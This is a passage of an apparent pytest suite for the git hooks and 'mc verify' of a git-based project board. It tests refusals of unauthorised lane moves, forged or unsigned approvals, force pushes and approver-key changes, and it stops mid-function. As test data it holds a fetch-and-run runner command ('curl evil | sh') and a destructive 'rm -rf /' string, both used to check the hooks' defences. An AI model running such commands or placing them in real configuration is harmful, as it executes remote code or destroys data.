"""The git hooks and `mc verify`, with real commits and real pushes (DESIGN §3).

Client side: the pre-commit and commit-msg hooks that `mc init` installs refuse a
person's forbidden commit and leave HEAD where it was. `--no-verify` skips them, so
`mc verify` and the server's pre-receive hook (on a real bare repository) check the
same rules again, commit by commit, with the signatures.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from mc.board import actions
from mc.board.board import Board
from mc.board.git import find_repo
from mc.board.hooks.install import install_server

from ..conftest import Key, git, head, run_mc, to_review, write

VALID = "title: X\narchetype: coder\n"


# ---------------------------------------------------------------------- helpers


def commit(path: Path, message: str, *args: str) -> subprocess.CompletedProcess[str]:
    """`git commit` through the installed hooks (not checked: the caller asserts)."""
    return git(path, "commit", "-q", "-m", message, *args, check=False)


def refused(path: Path, message: str = "change", *args: str) -> str:
    """Commit what is staged; assert the hooks refused it and HEAD did not move."""
    before = head(path)
    proc = commit(path, message, *args)
    assert proc.returncode != 0, f"commit was accepted: {proc.stdout}{proc.stderr}"
    assert head(path) == before
    return proc.stderr


def accepted(path: Path, message: str = "change", *args: str) -> str:
    before = head(path)
    proc = commit(path, message, *args)
    assert proc.returncode == 0, proc.stderr
    new = head(path)
    assert new != before
    assert git(path, "rev-parse", "HEAD^").stdout.strip() == before
    return new


def sneak(path: Path, message: str = "sneak", *args: str) -> str:
    """A commit made with --no-verify (the client hooks skipped); its sha."""
    git(path, "commit", "-q", "--no-verify", "-m", message, *args)
    return head(path)


def add_project(board: Board, pid: str = "x") -> None:
    actions.new_project(board, pid.upper(), "coder", project_id=pid)


def in_progress(board: Board, pid: str) -> None:
    add_project(board, pid)
    actions.queue(board, pid)
    actions.dispatch(board, pid, "1")


def review_commit(path: Path, pid: str) -> str:
    """The reviewer's commit that left the project in review."""
    return git(
        path,
        "log",
        "-1",
        "--format=%H",
        "-E",
        "--grep=^Mc-Action: review$",
        "--",
        f"review/{pid}.yaml",
    ).stdout.strip()


def hand_approval(
    clone: Path,
    pid: str,
    *,
    reviewed: str,
    by: str = "alice@example.com",
    sign_with: Key | None = None,
    job: str = "2",
) -> str:
    """An approval made by hand, shaped exactly like `mc approve`'s; its sha."""
    text = (clone / "review" / f"{pid}.yaml").read_text()
    git(clone, "rm", "-q", f"review/{pid}.yaml")
    write(
        clone / "done" / f"{pid}.yaml",
        text + f"approved:\n  by: {by}\n  at: 2026-01-02 03:04:05+00:00\n",
    )
    git(clone, "add", f"done/{pid}.yaml")
    message = (
        f"Approve {pid}\n\nMc-Action: approve\nMc-Actor: human\nMc-Project: {pid}\n"
        f"Mc-Reviewed-Commit: {reviewed}\nMc-Review-Job: {job}\n"
    )
    args = ["commit", "-q", "--no-verify", "-m", message]
    if sign_with is not None:
        args = ["-c", f"user.signingkey={sign_with.public}", *args, "-S"]
    git(clone, *args)
    return head(clone)


# ---------------------------------------------------------------------- client pre-commit


def test_hooks_installed_by_init(board_path: Path) -> None:
    hooks = board_path / ".git" / "hooks"
    for name in ("pre-commit", "commit-msg"):
        assert (hooks / name).is_file()
        assert "installed by mc hooks install" in (hooks / name).read_text()


@pytest.mark.parametrize(
    ("lane", "phrases"),
    [
        ("done", ["backlog → done", "only an approval moves a project to done", "mc approve x"]),
        ("in-progress", ["only the pipeline moves projects into in-progress", "queue x"]),
        ("review", ["backlog → review", "only the pipeline", "mc project queue x"]),
    ],
)
def test_git_mv_out_of_backlog_refused(
    board: Board, board_path: Path, lane: str, phrases: list[str]
) -> None:
    add_project(board)
    git(board_path, "mv", "backlog/x.yaml", f"{lane}/x.yaml")
    err = refused(board_path)
    assert f"{lane}/x.yaml" in err
    for phrase in phrases:
        assert phrase in err
    assert git(board_path, "ls-tree", "--name-only", "-r", "HEAD", "backlog").stdout.split() == [
        "backlog/.gitkeep",
        "backlog/x.yaml",
    ]


def test_person_moving_up_next_into_in_progress_refused(board: Board, board_path: Path) -> None:
    add_project(board)
    actions.queue(board, "x")
    git(board_path, "mv", "up-next/x.yaml", "in-progress/x.yaml")
    err = refused(board_path)
    assert "in-progress/x.yaml" in err
    assert "up-next → in-progress" in err and "only the pipeline" in err


def test_person_moving_in_progress_into_review_refused(board: Board, board_path: Path) -> None:
    in_progress(board, "x")
    git(board_path, "mv", "in-progress/x.yaml", "review/x.yaml")
    err = refused(board_path)
    assert "review/x.yaml" in err and "only the pipeline moves projects into review" in err


@pytest.mark.parametrize(
    ("added", "key"),
    [
        ("ready_for_human: true\n", "ready_for_human"),
        ("run:\n  job: '9'\n  attempt: 1\n  outcome: succeeded\n", "run"),
        ("approved:\n  by: alice@example.com\n  at: 2026-01-01 00:00:00+00:00\n", "approved"),
    ],
)
def test_pipeline_fields_written_by_hand_refused(
    board: Board, board_path: Path, added: str, key: str
) -> None:
    add_project(board)
    path = board_path / "backlog" / "x.yaml"
    path.write_text(path.read_text() + added)
    git(board_path, "add", "backlog/x.yaml")
    err = refused(board_path)
    assert "backlog/x.yaml" in err
    assert f"{key} is written only by the pipeline" in err
    assert "mc approve" in err


def test_new_project_with_ready_for_human_refused(board_path: Path) -> None:
    write(board_path / "backlog" / "y.yaml", VALID + "ready_for_human: true\n")
    git(board_path, "add", "backlog/y.yaml")
    err = refused(board_path)
    assert "backlog/y.yaml" in err and "ready_for_human is written only by the pipeline" in err


@pytest.mark.parametrize(
    ("text", "where", "reason"),
    [
        ("title: [X\narchetype: coder\n", r"backlog/y\.yaml:2:\d+", "expected ',' or ']'"),
        ("title: X\narchetype: coder\nbogus: 1\n", r"backlog/y\.yaml:3:1", "bogus: unknown key"),
        ("archetype: coder\n", r"backlog/y\.yaml:1:1", "title: required"),
    ],
)
def test_invalid_file_refused_with_file_line_col(
    board_path: Path, text: str, where: str, reason: str
) -> None:
    write(board_path / "backlog" / "y.yaml", text)
    git(board_path, "add", "backlog/y.yaml")
    err = refused(board_path)
    assert re.search(where + r": ", err), err
    assert reason in err


def test_unknown_archetype_refused(board_path: Path) -> None:
    """DESIGN §2: archetype is one of mc.yaml's archetypes; a file that does not
    validate is rejected by the hooks with the file and the reason."""
    write(board_path / "backlog" / "y.yaml", "title: Y\narchetype: nosuch\n")
    git(board_path, "add", "backlog/y.yaml")
    err = refused(board_path)
    assert "backlog/y.yaml" in err and "nosuch" in err


def test_second_file_with_existing_id_refused(board: Board, board_path: Path) -> None:
    add_project(board)
    write(board_path / "up-next" / "x.yaml", VALID)
    git(board_path, "add", "up-next/x.yaml")
    err = refused(board_path)
    assert "up-next/x.yaml" in err
    assert "a second file with the id x (also in backlog/)" in err


@pytest.mark.parametrize("name", ["backlog/Bad_Name.yaml", "backlog/sub/x.yaml", "done/-x.yaml"])
def test_bad_file_name_in_lane_refused(board_path: Path, name: str) -> None:
    write(board_path / name, VALID)
    git(board_path, "add", name)
    err = refused(board_path)
    assert name in err
    assert "lane folders hold only project files named <id>.yaml" in err


def test_stray_top_level_project_refused(board_path: Path) -> None:
    write(board_path / "x.yaml", VALID)
    git(board_path, "add", "x.yaml")
    err = refused(board_path)
    assert "x.yaml: project files belong in a lane folder" in err
    assert "mc project new" in err


def test_editing_a_done_project_refused(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    actions.approve(board, "p")
    path = board_path / "done" / "p.yaml"
    path.write_text(path.read_text().replace("What to build", "Something else to build"))
    git(board_path, "add", "done/p.yaml")
    err = refused(board_path)
    assert "done/p.yaml" in err and "done is final" in err


def test_nothing_leaves_done(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    actions.approve(board, "p")
    git(board_path, "mv", "done/p.yaml", "review/p.yaml")
    err = refused(board_path)
    assert "review/p.yaml" in err and "done is final" in err
    git(board_path, "reset", "-q", "--hard")
    git(board_path, "rm", "-q", "done/p.yaml")
    err = refused(board_path)
    assert "done/p.yaml" in err and "done is final" in err


def test_deleting_from_in_progress_refused(board: Board, board_path: Path) -> None:
    in_progress(board, "x")
    git(board_path, "rm", "-q", "in-progress/x.yaml")
    err = refused(board_path)
    assert "in-progress/x.yaml" in err
    assert "only projects in backlog or up-next may be deleted" in err
    assert "mc project cancel x" in err


def test_committing_the_service_key_refused(board_path: Path) -> None:
    git(board_path, "add", "-f", ".mc/service_key")
    err = refused(board_path)
    assert ".mc/service_key" in err and "never be committed" in err


def test_allowed_person_commits_pass(board: Board, board_path: Path) -> None:
    # A valid project added to backlog by hand.
    write(board_path / "backlog" / "y.yaml", VALID.replace("X", "Y"))
    git(board_path, "add", "backlog/y.yaml")
    accepted(board_path, "add y")
    # Editing person-owned fields.
    write(
        board_path / "backlog" / "y.yaml",
        "title: Y again\narchetype: writer\ndescription: |\n  Write it.\npriority: 1\n"
        "owner: alice\nlabels: [docs]\ndue: 2026-12-01\nx-notes: mine\n",
    )
    git(board_path, "add", "backlog/y.yaml")
    accepted(board_path, "edit y")
    # Queueing by hand.
    git(board_path, "mv", "backlog/y.yaml", "up-next/y.yaml")
    accepted(board_path, "queue y")
    assert git(board_path, "ls-tree", "-r", "--name-only", "HEAD", "up-next").stdout.split() == [
        "up-next/.gitkeep",
        "up-next/y.yaml",
    ]
    # Deleting from up-next.
    git(board_path, "rm", "-q", "up-next/y.yaml")
    accepted(board_path, "delete y")


def test_cancel_and_rework_from_review_pass(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    to_review(board, "q")
    git(board_path, "mv", "review/p.yaml", "backlog/p.yaml")
    accepted(board_path, "cancel p")
    git(board_path, "mv", "review/q.yaml", "up-next/q.yaml")
    accepted(board_path, "rework q")
    assert (board_path / "backlog" / "p.yaml").is_file()
    assert (board_path / "up-next" / "q.yaml").is_file()
    proc = run_mc(board_path, "verify")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_editing_person_fields_in_review_passes(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    path = board_path / "review" / "p.yaml"
    path.write_text(path.read_text().replace("What to build", "What to build, better"))
    git(board_path, "add", "review/p.yaml")
    accepted(board_path, "edit p")


# ---------------------------------------------------------------------- commit-msg


@pytest.mark.parametrize(
    ("trailer", "said"),
    [
        ("Mc-Actor: dispatcher", "cannot claim Mc-Actor: dispatcher"),
        ("Mc-Actor: reviewer", "cannot claim Mc-Actor: reviewer"),
        ("Mc-Action: approve", "mc approve ID"),
    ],
)
def test_commit_msg_refuses_pipeline_trailers(board_path: Path, trailer: str, said: str) -> None:
    write(board_path / "notes.txt", "hello\n")
    git(board_path, "add", "notes.txt")
    err = refused(board_path, f"Notes\n\n{trailer}\n")
    assert said in err


def test_commit_msg_allows_human_trailer(board_path: Path) -> None:
    write(board_path / "notes.txt", "hello\n")
    git(board_path, "add", "notes.txt")
    sha = accepted(board_path, "Notes\n\nMc-Action: edit\nMc-Actor: human\n")
    assert "Mc-Actor: human" in git(board_path, "log", "-1", "--format=%B", sha).stdout


# ---------------------------------------------------------------------- mc verify


def test_verify_clean_history_exit_0(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    actions.approve(board, "p")
    add_project(board, "y")
    actions.queue(board, "y")
    proc = run_mc(board_path, "verify")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    count = len(git(board_path, "rev-list", "HEAD").stdout.split())
    assert f"{count} commits checked, 0 violations" in proc.stdout
    proc = run_mc(board_path, "verify", "--json")
    assert proc.returncode == 0
    assert json.loads(proc.stdout) == []


@pytest.mark.parametrize(
    ("move", "path"),
    [
        (("backlog/x.yaml", "done/x.yaml"), "done/x.yaml"),
        (("backlog/x.yaml", "review/x.yaml"), "review/x.yaml"),
    ],
)
def test_verify_catches_no_verify_commits(
    board: Board, board_path: Path, move: tuple[str, str], path: str
) -> None:
    add_project(board)
    git(board_path, "mv", *move)
    bad = sneak(board_path)
    proc = run_mc(board_path, "verify")
    assert proc.returncode == 1
    assert f"{bad[:12]}: {path}:" in proc.stdout
    assert "1 violation" in proc.stdout
    proc = run_mc(board_path, "verify", "--json")
    assert proc.returncode == 1
    found = json.loads(proc.stdout)
    assert [(v["commit"], v["path"], v["project"]) for v in found] == [(bad, path, "x")]
    assert found[0]["message"]


def test_verify_catches_hand_set_ready_for_human_and_invalid_files(
    board: Board, board_path: Path
) -> None:
    add_project(board)
    path = board_path / "backlog" / "x.yaml"
    path.write_text(path.read_text() + "ready_for_human: true\n")
    git(board_path, "add", "backlog/x.yaml")
    first = sneak(board_path)
    write(board_path / "backlog" / "y.yaml", "title: [Y\n")
    git(board_path, "add", "backlog/y.yaml")
    second = sneak(board_path)
    proc = run_mc(board_path, "verify", "--json")
    assert proc.returncode == 1
    found = json.loads(proc.stdout)
    assert [v["commit"] for v in found] == [first, second]
    assert "ready_for_human" in found[0]["message"] and found[0]["path"] == "backlog/x.yaml"
    assert "backlog/y.yaml:" in found[1]["message"] and found[1]["project"] == "y"


def test_verify_range(board: Board, board_path: Path) -> None:
    add_project(board)
    git(board_path, "mv", "backlog/x.yaml", "done/x.yaml")
    bad = sneak(board_path)
    write(board_path / "notes.txt", "fine\n")
    git(board_path, "add", "notes.txt")
    good = accepted(board_path, "notes")

    proc = run_mc(board_path, "verify", f"{bad}..{good}")
    assert proc.returncode == 0, proc.stdout
    assert "1 commits checked, 0 violations" in proc.stdout

    proc = run_mc(board_path, "verify", f"{bad}~1..{bad}")
    assert proc.returncode == 1
    assert bad[:12] in proc.stdout and "done/x.yaml" in proc.stdout
    assert "1 commits checked, 1 violation" in proc.stdout

    proc = run_mc(board_path, "verify", f"{bad}~1..{good}", "--json")
    assert proc.returncode == 1
    assert [v["commit"] for v in json.loads(proc.stdout)] == [bad]


# ---------------------------------------------------------------------- server pre-receive


@dataclass(frozen=True)
class Server:
    bare: Path
    clone: Path

    def tip(self, ref: str = "main") -> str:
        return git(self.bare, "--git-dir", str(self.bare), "rev-parse", ref).stdout.strip()

    def has(self, ref: str) -> bool:
        proc = git(
            self.bare, "--git-dir", str(self.bare), "rev-parse", "-q", "--verify", ref, check=False
        )
        return proc.returncode == 0

    def push(self, *args: str) -> subprocess.CompletedProcess[str]:
        return git(self.clone, "push", "origin", *args, check=False)

    def push_refused(self, *args: str, ref: str = "main") -> str:
        before = self.tip(ref) if self.has(ref) else None
        proc = self.push(*args)
        assert proc.returncode != 0, f"push accepted: {proc.stderr}"
        assert "pre-receive hook declined" in proc.stderr
        if before is not None:
            assert self.tip(ref) == before
        return proc.stderr

    def push_accepted(self, *args: str) -> None:
        proc = self.push(*args)
        assert proc.returncode == 0, proc.stderr
        assert self.tip() == head(self.clone)

    def service_key(self, board_path: Path) -> Path:
        """Give the clone the board's service key (it is never committed)."""
        for name in ("service_key", "service_key.pub"):
            shutil.copy2(board_path / ".mc" / name, self.clone / ".mc" / name)
        return self.clone / ".mc" / "service_key"


@pytest.fixture
def serve(board_path: Path, tmp_path: Path) -> Callable[..., Server]:
    """A bare copy of the board with the pre-receive hook, and a clone that pushes to it."""

    def make(cli: bool = False) -> Server:
        bare = tmp_path / "server.git"
        clone = tmp_path / "clone"
        git(tmp_path, "clone", "-q", "--bare", str(board_path), str(bare))
        if cli:
            proc = run_mc(tmp_path, "hooks", "install", "--server", str(bare))
            assert proc.returncode == 0, proc.stderr
            assert f"Installed {bare / 'hooks' / 'pre-receive'}" in proc.stdout
        else:
            install_server(find_repo(bare))
        assert "installed by mc hooks install" in (bare / "hooks" / "pre-receive").read_text()
        git(tmp_path, "clone", "-q", str(bare), str(clone))
        return Server(bare, clone)

    return make


def test_server_accepts_clean_push(board: Board, serve: Callable[..., Server]) -> None:
    add_project(board)
    server = serve(cli=True)
    c = server.clone
    write(c / "backlog" / "y.yaml", VALID)
    git(c, "add", "backlog/y.yaml")
    sneak(c, "add y")
    git(c, "mv", "backlog/x.yaml", "up-next/x.yaml")
    sneak(c, "queue x")
    server.push_accepted("main")


def test_server_rejects_unsigned_move_to_done(board: Board, serve: Callable[..., Server]) -> None:
    to_review(board, "p")
    server = serve()
    bad = hand_approval(server.clone, "p", reviewed=review_commit(server.clone, "p"))
    err = server.push_refused("main")
    assert bad[:12] in err and "done/p.yaml" in err
    assert "only an approval moves a project to done" in err


def test_server_rejects_plain_move_to_done(board: Board, serve: Callable[..., Server]) -> None:
    add_project(board)
    server = serve()
    git(server.clone, "mv", "backlog/x.yaml", "done/x.yaml")
    bad = sneak(server.clone)
    err = server.push_refused("main")
    assert f"{bad[:12]}: done/x.yaml" in err


def test_server_rejects_move_to_done_signed_by_unlisted_key(
    board: Board, serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    to_review(board, "p")
    server = serve()
    bad = hand_approval(
        server.clone,
        "p",
        reviewed=review_commit(server.clone, "p"),
        by="mallory",
        sign_with=keys["mallory"],
    )
    sig = git(server.clone, "cat-file", "commit", bad).stdout
    assert "BEGIN SSH SIGNATURE" in sig
    err = server.push_refused("main")
    assert bad[:12] in err and "done/p.yaml" in err


def test_server_accepts_hand_made_approval_signed_by_approver(
    board: Board, serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    """The control for the refusals around it: the same commit, signed by alice, is fine."""
    to_review(board, "p")
    server = serve()
    hand_approval(
        server.clone, "p", reviewed=review_commit(server.clone, "p"), sign_with=keys["alice"]
    )
    server.push_accepted("main")


def test_server_rejects_bad_commit_hidden_under_good_tip(
    board: Board, serve: Callable[..., Server]
) -> None:
    add_project(board)
    server = serve()
    c = server.clone
    write(c / "a.txt", "a\n")
    git(c, "add", "a.txt")
    sneak(c, "good first")
    git(c, "mv", "backlog/x.yaml", "done/x.yaml")
    bad = sneak(c, "bad middle")
    write(c / "b.txt", "b\n")
    git(c, "add", "b.txt")
    tip = sneak(c, "good signed tip", "-S")
    signers = f"gpg.ssh.allowedSignersFile={c / '.mc' / 'allowed_signers'}"
    assert git(c, "-c", signers, "log", "-1", "--format=%G?%GS", tip).stdout.strip() == (
        "Galice@example.com"
    )
    err = server.push_refused("main")
    assert bad[:12] in err
    assert tip[:12] not in err


def test_server_accepts_mc_approve(board: Board, serve: Callable[..., Server]) -> None:
    to_review(board, "p")
    server = serve()
    proc = run_mc(server.clone, "approve", "p")
    assert proc.returncode == 0, proc.stderr
    assert (server.clone / "done" / "p.yaml").is_file()
    server.push_accepted("main")
    listing = git(
        server.bare, "--git-dir", str(server.bare), "ls-tree", "-r", "--name-only", "main", "done"
    ).stdout.split()
    assert "done/p.yaml" in listing


def _queued(board: Board, pid: str = "x") -> None:
    add_project(board, pid)
    actions.queue(board, pid)


DISPATCH_MESSAGE = "Dispatch x (job 7)\n\nMc-Action: dispatch\nMc-Actor: dispatcher\nMc-Job: 7\n"


def test_server_rejects_unsigned_service_commit(
    board: Board, board_path: Path, serve: Callable[..., Server]
) -> None:
    _queued(board)
    server = serve()
    server.service_key(board_path)
    git(server.clone, "mv", "up-next/x.yaml", "in-progress/x.yaml")
    bad = sneak(server.clone, DISPATCH_MESSAGE)
    err = server.push_refused("main")
    assert f"{bad[:12]}: in-progress/x.yaml" in err


def test_server_rejects_service_commit_signed_by_a_person(
    board: Board, board_path: Path, serve: Callable[..., Server]
) -> None:
    _queued(board)
    server = serve()
    git(server.clone, "mv", "up-next/x.yaml", "in-progress/x.yaml")
    bad = sneak(server.clone, DISPATCH_MESSAGE, "-S")  # alice: an approver, not the service
    err = server.push_refused("main")
    assert f"{bad[:12]}: in-progress/x.yaml" in err


def test_server_accepts_service_commit_signed_by_service_key(
    board: Board, board_path: Path, serve: Callable[..., Server]
) -> None:
    _queued(board)
    server = serve()
    key = server.service_key(board_path)
    c = server.clone
    git(c, "mv", "up-next/x.yaml", "in-progress/x.yaml")
    git(
        c,
        "-c",
        "gpg.format=ssh",
        "-c",
        f"user.signingkey={key}",
        "commit",
        "-q",
        "-S",
        "--no-verify",
        "-m",
        DISPATCH_MESSAGE,
    )
    server.push_accepted("main")


def test_server_rejects_force_push(board: Board, serve: Callable[..., Server]) -> None:
    add_project(board)
    server = serve()
    c = server.clone
    git(c, "commit", "-q", "--amend", "--no-verify", "-m", "rewritten")
    err = server.push_refused("--force", "main")
    assert "force pushes to the board branch are refused" in err


def test_server_rejects_force_push_to_an_ancestor(
    board: Board, serve: Callable[..., Server]
) -> None:
    add_project(board)
    server = serve()
    git(server.clone, "reset", "-q", "--hard", "HEAD~1")
    err = server.push_refused("--force", "main")
    assert "force pushes" in err


def test_server_rejects_deleting_main(serve: Callable[..., Server]) -> None:
    server = serve()
    # Take git's own guard for the default branch away: the hook must refuse by itself.
    git(server.bare, "--git-dir", str(server.bare), "config", "receive.denyDeleteCurrent", "false")
    err = server.push_refused(":main")
    assert "the board branch cannot be deleted" in err
    assert server.has("main")


def test_server_rejects_merge_commit_on_main(board: Board, serve: Callable[..., Server]) -> None:
    add_project(board)
    server = serve()
    c = server.clone
    git(c, "checkout", "-q", "-b", "side")
    write(c / "s.txt", "s\n")
    git(c, "add", "s.txt")
    sneak(c, "side")
    git(c, "checkout", "-q", "main")
    write(c / "m.txt", "m\n")
    git(c, "add", "m.txt")
    sneak(c, "main")
    git(c, "merge", "-q", "--no-ff", "--no-verify", "--no-edit", "side")
    merge = head(c)
    err = server.push_refused("main")
    assert f"{merge[:12]}: merge commit" in err


def test_server_rejects_new_branch_with_forbidden_commit(
    board: Board, serve: Callable[..., Server]
) -> None:
    add_project(board)
    server = serve()
    c = server.clone
    git(c, "checkout", "-q", "-b", "feature")
    git(c, "mv", "backlog/x.yaml", "done/x.yaml")
    bad = sneak(c)
    write(c / "n.txt", "n\n")
    git(c, "add", "n.txt")
    sneak(c, "fine")
    err = server.push_refused("feature", ref="feature")
    assert "refs/heads/feature" in err and bad[:12] in err
    assert not server.has("refs/heads/feature")


def test_server_accepts_new_branch_with_good_commits(
    board: Board, serve: Callable[..., Server]
) -> None:
    add_project(board)
    server = serve()
    c = server.clone
    git(c, "checkout", "-q", "-b", "feature")
    git(c, "mv", "backlog/x.yaml", "up-next/x.yaml")
    tip = sneak(c, "queue x")
    proc = server.push("feature")
    assert proc.returncode == 0, proc.stderr
    assert server.tip("feature") == tip


def _add_signer(clone: Path, key: Key, name: str) -> None:
    path = clone / ".mc" / "allowed_signers"
    path.write_text(path.read_text() + f'{name} namespaces="git" {key.public_text}\n')
    git(clone, "add", ".mc/allowed_signers")


def test_server_rejects_unsigned_approver_change(
    serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    server = serve()
    _add_signer(server.clone, keys["mallory"], "mallory")
    bad = sneak(server.clone, "add mallory")
    err = server.push_refused("main")
    assert f"{bad[:12]}: .mc/allowed_signers" in err
    assert "signed by an existing approver" in err


def test_server_rejects_approver_change_signed_by_the_new_key(
    serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    """A commit cannot vouch for itself by adding its own key."""
    server = serve()
    _add_signer(server.clone, keys["mallory"], "mallory")
    git(
        server.clone,
        "-c",
        f"user.signingkey={keys['mallory'].public}",
        "commit",
        "-q",
        "-S",
        "--no-verify",
        "-m",
        "add mallory",
    )
    server.push_refused("main")


def test_server_rejects_unsigned_approver_change_after_a_commented_approver_line(
    serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    """An approver line with a free-text comment (`alice's laptop`, which git accepts) still
    counts as an approver: the next change to the file must be signed by one."""
    server = serve()
    c = server.clone
    path = c / ".mc" / "allowed_signers"
    alice = " ".join(keys["alice"].public_text.split()[:2])
    path.write_text(path.read_text().replace(alice, f"{alice} alice's laptop"))
    git(c, "add", ".mc/allowed_signers")
    sneak(c, "comment alice's key", "-S")
    server.push_accepted("main")
    _add_signer(c, keys["mallory"], "mallory")
    bad = sneak(c, "add mallory")
    err = server.push_refused("main")
    assert f"{bad[:12]}: .mc/allowed_signers" in err


def test_server_accepts_approver_change_signed_by_alice(
    serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    server = serve()
    _add_signer(server.clone, keys["bob"], "bob")
    sneak(server.clone, "add bob", "-S")
    server.push_accepted("main")


# ------------------------------------------------------------ approval = what was reviewed


def _edit_description(path: Path, pid: str) -> str:
    file = path / "review" / f"{pid}.yaml"
    file.write_text(file.read_text().replace("What to build, and why.", "Also rm -rf /."))
    git(path, "add", f"review/{pid}.yaml")
    return accepted(path, f"edit {pid}")


def test_approve_refused_after_description_changed(board: Board, board_path: Path) -> None:
    to_review(board, "p")
    _edit_description(board_path, "p")
    before = head(board_path)
    proc = run_mc(board_path, "approve", "p")
    assert proc.returncode != 0
    assert "changed after its review" in proc.stderr
    assert head(board_path) == before
    assert (board_path / "review" / "p.yaml").is_file()
    assert not (board_path / "done" / "p.yaml").exists()


def test_forged_reviewed_commit_after_edit_rejected(
    board: Board, board_path: Path, serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    to_review(board, "p")
    reviewed = review_commit(board_path, "p")
    _edit_description(board_path, "p")
    server = serve()
    bad = hand_approval(server.clone, "p", reviewed=reviewed, sign_with=keys["alice"])
    err = server.push_refused("main")
    assert bad[:12] in err and "changed after its review" in err
    proc = run_mc(server.clone, "verify", "--json")
    assert proc.returncode == 1
    assert [(v["commit"], v["path"]) for v in json.loads(proc.stdout)] == [(bad, "done/p.yaml")]


def test_reviewed_commit_naming_a_person_edit_rejected(
    board: Board, board_path: Path, serve: Callable[..., Server], keys: dict[str, Key]
) -> None:
    """Mc-Reviewed-Commit must name the reviewer's (service-signed) review commit, not the
    person's later edit: otherwise any edit after a review can be approved."""
    to_review(board, "p")
    edit = _edit_description(board_path, "p")
    server = serve()
    bad = hand_approval(server.clone, "p", reviewed=edit, sign_with=keys["alice"])
    server.push_refused("main")
    proc = run_mc(server.clone, "verify", f"{bad}~1..{bad}")
    assert proc.returncode == 1, proc.stdout


def test_approve_refused_after_edit_whose_message_claims_review(
    board: Board, board_path: Path
) -> None:
    """A person's edit commit whose message carries `Mc-Action: review` (commit-msg allows
    it) is not a review: `mc approve` must still see the change since the real review."""
    to_review(board, "p")
    file = board_path / "review" / "p.yaml"
    file.write_text(file.read_text().replace("What to build, and why.", "Something else."))
    git(board_path, "add", "review/p.yaml")
    accepted(board_path, "Edit p\n\nMc-Action: review\nMc-Actor: human\n")
    before = head(board_path)
    proc = run_mc(board_path, "approve", "p")
    assert proc.returncode != 0, proc.stdout
    assert "changed after its review" in proc.stderr
    assert head(board_path) == before


def test_server_keeps_protecting_its_branch_when_mc_yaml_renames_it(
    board: Board, serve: Callable[..., Server]
) -> None:
    """The protected branch is the server's setting: a pushed `branch:` cannot lift it."""
    server = serve()
    assert git(server.bare, "config", "mc.boardBranch").stdout.strip() == "main"
    root = git(server.bare, "rev-list", "--max-parents=0", "main").stdout.split()[-1]
    assert git(server.bare, "config", "mc.boardRoot").stdout.strip() == root
    mc_yaml = server.clone / "mc.yaml"
    mc_yaml.write_text(mc_yaml.read_text().replace("branch: main", "branch: elsewhere"))
    git(server.clone, "commit", "-q", "--no-verify", "-am", "rename the board branch")
    before = server.tip()
    # Unsigned: refused, mc.yaml changes need an approver once there is one.
    push = git(server.clone, "push", "origin", "main", check=False)
    assert push.returncode != 0 and "mc.yaml must be signed by an existing approver" in push.stderr
    assert server.tip() == before
    # Even signed by the approver, main stays the protected branch: no force push.
    git(server.clone, "commit", "-q", "--amend", "--no-edit", "-S", "--no-verify")
    git(server.clone, "push", "-q", "origin", "main")
    git(server.clone, "reset", "-q", "--hard", "HEAD~1")
    forced = git(server.clone, "push", "-f", "origin", "main", check=False)
    assert forced.returncode != 0 and "force pushes" in forced.stderr


def test_verify_refuses_a_history_that_does_not_start_at_the_boards_first_commit(
    board_path: Path,
) -> None:
    """mc init records the board's first commit; a replaced history cannot vouch for itself."""
    root = git(board_path, "rev-list", "--max-parents=0", "HEAD").stdout.split()[-1]
    assert git(board_path, "config", "mc.boardRoot").stdout.strip() == root
    tree = git(board_path, "rev-parse", "HEAD^{tree}").stdout.strip()
    forged = git(board_path, "commit-tree", tree, "-m", "a board of my own").stdout.strip()
    git(board_path, "update-ref", "refs/heads/main", forged)
    proc = run_mc(board_path, "verify")
    assert proc.returncode == 1
    assert f"does not start at the board's first commit {root[:12]}" in proc.stdout


def test_server_refuses_tags_and_checks_what_a_tag_would_have_hidden(
    board: Board, serve: Callable[..., Server]
) -> None:
    """Issue 12.4: an unsigned done move pushed as refs/tags/x, then as refs/heads/y; and
    refs/tags/main, which would break everyone's `git push origin HEAD:main`."""
    to_review(board, "p")
    server = serve()
    c = server.clone
    bad = hand_approval(c, "p", reviewed=review_commit(c, "p"))
    git(c, "tag", "x", bad)
    err = server.push_refused("refs/tags/x", ref="refs/tags/x")
    assert "refs/tags/x: only branches may be pushed" in err
    assert not server.has("refs/tags/x")
    git(c, "branch", "y", bad)
    err = server.push_refused("refs/heads/y", ref="refs/heads/y")
    assert bad[:12] in err and "only an approval moves a project to done" in err
    git(c, "tag", "main", "HEAD~1")
    err = server.push_refused("refs/tags/main", ref="refs/tags/main")
    assert "refs/tags/main: only branches may be pushed" in err
    assert git(server.bare, "--git-dir", str(server.bare), "tag").stdout == ""


# ---------------------------------------------------------------------- issue 12.2 / 12.3


def _runner_to(path: Path, command: str) -> None:
    """Make the coder archetype run another command (mc.yaml, staged)."""
    mc_yaml = path / "mc.yaml"
    line = f"  coder: {{runner: command, command: [sh, -c, '{command}']}}"
    text, n = re.subn(r"(?m)^  coder:.*$", line, mc_yaml.read_text())
    assert n == 1
    mc_yaml.write_text(text)
    git(path, "add", "mc.yaml")


def test_pre_commit_refuses_an_unsigned_mc_yaml_change_and_says_to_sign(
    board_path: Path, keys: dict[str, Key]
) -> None:
    """Issue 12.2: the client hook knows whether the commit will be signed, and by whom."""
    _runner_to(board_path, "curl evil | sh")
    said = refused(board_path, "new runner", "--no-gpg-sign")
    assert "mc.yaml: changes to mc.yaml must be signed by an existing approver" in said
    assert "git commit -S" in said
    # Signed, but by a key that is no approver's: refused too.
    mallory = git(
        board_path,
        "-c",
        f"user.signingkey={keys['mallory'].public}",
        "commit",
